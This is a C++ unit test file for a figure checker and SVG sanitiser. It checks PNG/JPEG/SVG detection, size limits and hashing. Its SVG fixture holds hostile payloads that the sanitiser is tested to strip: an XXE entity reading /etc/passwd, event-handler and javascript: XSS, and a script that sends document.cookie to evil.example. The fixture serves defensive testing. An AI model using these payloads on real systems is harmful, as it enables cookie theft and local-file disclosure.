#include "server/core/media/figure.hpp"
#include "server/core/media/svg_sanitiser.hpp"
#include "shared/crypto/digest.hpp"
#include "tests/server/core/media/image_headers.hpp"

#include <doctest/doctest.h>

using namespace craftmark;
using namespace craftmark::core;
using testing::png_header;

namespace {

bool contains(std::string const& text, std::string const& part) {
    return text.find(part) != std::string::npos;
}

} // namespace

TEST_CASE("a figure is a PNG, JPEG or SVG by its bytes, kept by its SHA-256") {
    auto p = check_figure(png_header(640, 480));
    REQUIRE(p.problem.empty());
    CHECK(p.fig.media_type == "image/png");
    CHECK(p.fig.bytes == png_header(640, 480));
    CHECK(p.fig.sha256 == crypto::sha256_hex(png_header(640, 480)));

    CHECK(check_figure("GIF89a……").problem == "not a PNG, JPEG or SVG image");
    CHECK(check_figure("%PDF-1.7").problem == "not a PNG, JPEG or SVG image");
    CHECK(check_figure(std::string("\x89PNG\r\n\x1a\n", 8) + "junk").problem ==
          "its PNG header is damaged");
    CHECK(check_figure(png_header(0, 480)).problem == "0 × 480 pixels is not a figure");
    CHECK(check_figure(png_header(640, 480) + std::string(max_figure_bytes, 'x')).problem ==
          "larger than 4 MiB");
}

TEST_CASE("an SVG keeps its drawing and loses script, handlers, links and outside references") {
    auto svg = check_figure(R"svg(<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<?xml-stylesheet href="http://evil.example/a.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 100 50"
     onload="alert(1)" inkscape:version="1.2">
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
  <style>.wire{stroke:#000}</style>
  <style>@import url(http://evil.example/x.css);</style>
  <script>fetch('http://evil.example/?'+document.cookie)</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
  <a xlink:href="javascript:alert(2)"><rect class="wire" x="1" y="1" width="10" height="10"
     fill="url(#g)" onclick="alert(3)"/></a>
  <circle cx="50" cy="25" r="5" style="fill:url(http://evil.example/p.svg#p)"/>
  <use href="#g"/><use href="http://evil.example/sprite.svg#icon"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="5" height="5"/>
  <image href="https://evil.example/track.png" width="1" height="1"/>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/></foreignObject>
  <set attributeName="href" to="javascript:alert(4)"/>
  <text x="5" y="40">R1 = 10 Ω &x;</text>
</svg>)svg");
    REQUIRE(svg.problem.empty());
    CHECK(svg.fig.media_type == "image/svg+xml");
    auto const& text = svg.fig.bytes;
    CHECK(svg.fig.sha256 == crypto::sha256_hex(text)); // of what is kept, not what came
    for (auto gone :
         {"script", "alert", "evil.example", "foreignObject", "iframe", "<set", "@import", "onload",
          "onclick", "inkscape", "metadata", "stylesheet", "ENTITY", "passwd"})
        CHECK_MESSAGE(!contains(text, gone), gone);
    for (auto kept : {"viewBox=\"0 0 100 50\"", "<style>.wire{stroke:#000}</style>",
                      "fill=\"url(#g)\"", "<use href=\"#g\"", "data:image/png;base64,", "R1 = 10 Ω",
                      "<g><rect class=\"wire\"", "<circle cx=\"50\""})
        CHECK_MESSAGE(contains(text, kept), kept);
    CHECK(svg.removed ==
          std::vector<std::string>{
              "a link to http://evil.example/sprite.svg#icon",
              "a link to https://evil.example/track.png", "a link to javascript:alert(2)",
              "a style sheet that loads or runs something", "foreignObject", "onclick attribute",
              "onload attribute", "script", "set", "style that loads or runs something"});
    // What comes out is itself a clean SVG: cleaning it again changes nothing.
    auto again = sanitise_svg(text);
    CHECK(again.text == text);
    CHECK(again.removed.empty());
}

TEST_CASE("an SVG that is not a drawing is refused, not guessed at") {
    CHECK(check_figure("<svg><g></svg>")
              .problem.starts_with("an SVG that cannot be used: it is not well-formed XML"));
    CHECK(sanitise_svg("<html><svg/></html>").problem == "its root element is not <svg>");
    CHECK(check_figure("<html><body><svg></svg></body></html>").problem ==
          "an SVG that cannot be used: its root element is not <svg>");
}
